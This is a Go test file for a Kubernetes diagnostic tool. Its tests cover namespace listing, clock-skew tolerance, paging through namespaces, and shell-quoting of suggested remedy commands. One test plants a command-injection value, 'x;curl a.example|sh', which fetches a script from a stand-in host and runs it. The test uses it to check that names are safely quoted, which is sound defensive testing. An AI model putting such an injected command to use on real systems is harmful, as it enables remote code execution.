package doctor

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/client-go/kubernetes/fake"
	clienttesting "k8s.io/client-go/testing"

	"github.com/signalbox-dev/signalbox/preflight"
	"github.com/signalbox-dev/signalbox/preflight/kinds"
	"github.com/signalbox-dev/signalbox/webhook"
)

// Of many namespaces five are named, and the others counted.
func TestNamespacesAreNamedOrCounted(t *testing.T) {
	for n, want := range map[int]string{5: "n4", 6: "and 1 more", 300: "and 295 more"} {
		var all []string
		for i := range n {
			all = append(all, fmt.Sprintf("n%d", i))
		}
		before := slices.Clone(all)
		if got := firstNames(all); got[len(got)-1] != want || len(got) > 6 || !slices.Equal(all, before) {
			t.Errorf("of %d: %v; want %s at the end", n, got, want)
		}
	}
}

// Clocks may be a minute apart, either way, and not more.
func TestClocksMayBeAMinuteApart(t *testing.T) {
	for skew, want := range map[time.Duration]string{
		time.Minute: partFine, -time.Minute: partFine, time.Minute + 1: partWrong, -time.Minute - 1: partWrong,
	} {
		var e examination
		(&doctor{skew: func() time.Duration { return skew }}).clock(&e)
		if len(e.Parts) != 1 || e.Parts[0].State != want {
			t.Errorf("%s apart: %+v; want %s", skew, e.Parts, want)
		}
	}
}

// A namespace that the webhook is asked about is looked for among five hundred, and it is said that there are more.
func TestANamespaceIsLookedForAmongSoMany(t *testing.T) {
	for off, want := range map[int]string{499: "z-warns", 500: "and no other of the first 500 is reviewed"} {
		var all []runtime.Object
		for i := range off {
			all = append(all, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("a%04d", i), Labels: map[string]string{preflight.ModeLabel: preflight.ModeOff}}})
		}
		kube := fake.NewClientset(append(all, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "z-warns"}})...)
		kube.PrependReactor("list", "namespaces", func(a clienttesting.Action) (bool, runtime.Object, error) { // the fake sends all, whatever the limit
			found, err := kube.Tracker().List(a.GetResource(), corev1.SchemeGroupVersion.WithKind("Namespace"), "")
			if err != nil {
				return true, nil, err
			}
			list := found.(*corev1.NamespaceList)
			slices.SortFunc(list.Items, func(a, b corev1.Namespace) int { return strings.Compare(a.Name, b.Name) })
			if most := a.(clienttesting.ListActionImpl).ListOptions.Limit; int64(len(list.Items)) > most {
				list.Items, list.Continue = list.Items[:most], "more"
			}
			return true, list, nil
		})
		d := &doctor{kube: kube, namespace: "a0000", own: webhook.Namespace}
		got, err := d.tried(t.Context(), &webhook.Configuration(kinds.All()).Webhooks[0])
		if err != nil {
			got = err.Error()
		}
		if !strings.Contains(got, want) {
			t.Errorf("after %d namespaces that are off: %s; want %s", off, got, want)
		}
	}
}

// A cluster of somebody else calls things what it likes: a command to copy has each name as one word, and nothing behind it.
func TestNoNameEndsACommandOfDoctor(t *testing.T) {
	const evil = "x;curl a.example|sh"
	for name, spoil := range map[string]func(*installation){
		"a namespace": func(i *installation) {
			i.more = append(i.more, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: evil, Labels: map[string]string{preflight.ModeLabel: "enforced"}}})
		},
		"settings": func(i *installation) {
			i.settings.Name, i.settings.Data["config.yaml"] = evil, "log: 7"
		},
		"our own namespace": func(i *installation) {
			i.hook.Webhooks[0].ClientConfig.Service.Namespace = evil
			i.hook.Webhooks[0].ClientConfig.CABundle = []byte("-----BEGIN CERTIFICATE-----\n\n-----END CERTIFICATE-----\n")
		},
	} {
		t.Run(name, func(t *testing.T) {
			i := well()
			spoil(i)
			said := i.examine(t)
			found := false
			for _, p := range i.parts {
				found = found || strings.Contains(p.Remedy, evil)
				if strings.Contains(strings.ReplaceAll(p.Remedy, "'"+evil+"'", ""), evil) {
					t.Errorf("%s: the remedy is %s", p.Part, p.Remedy)
				}
			}
			if !found {
				t.Errorf("no remedy names it:\n%s", said)
			}
		})
	}
}
